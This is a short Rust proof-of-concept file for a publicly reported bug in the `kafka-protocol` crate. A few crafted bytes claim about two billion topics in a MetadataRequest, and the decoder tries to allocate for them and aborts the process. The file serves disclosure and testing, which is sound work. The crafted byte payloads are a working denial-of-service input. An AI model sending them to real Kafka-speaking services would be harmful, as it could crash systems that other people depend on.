//! Shows a fault of the crate `kafka-protocol` by itself: a count of two thousand million topics in a MetadataRequest of a
//! few bytes is believed before the bytes that follow it are looked at, and the process aborts. Publicly reported:
//! kafka-protocol-rs/kafka-protocol-rs#152.
//!
//! `cargo run --release --locked --example proof` from this folder, in a shell with `ulimit -v 4194304`, so that it does
//! not depend on how much memory the machine promises.

use kafka_protocol::messages::MetadataRequest;
use kafka_protocol::protocol::Decodable;

fn main() {
    // The plain count of version 1, and with `compact` the compact one of version 9, which is read elsewhere.
    let compact = std::env::args().nth(1).as_deref() == Some("compact");
    let (mut bytes, version): (&[u8], i16) =
        if compact { (&[0xff, 0xff, 0xff, 0xff, 0x07], 9) } else { (&[0x7f, 0xff, 0xff, 0xff], 1) };
    let decoded = MetadataRequest::decode(&mut bytes, version);
    println!("{:?}", decoded.map(|_| "taken").map_err(|error| error.to_string()));
}
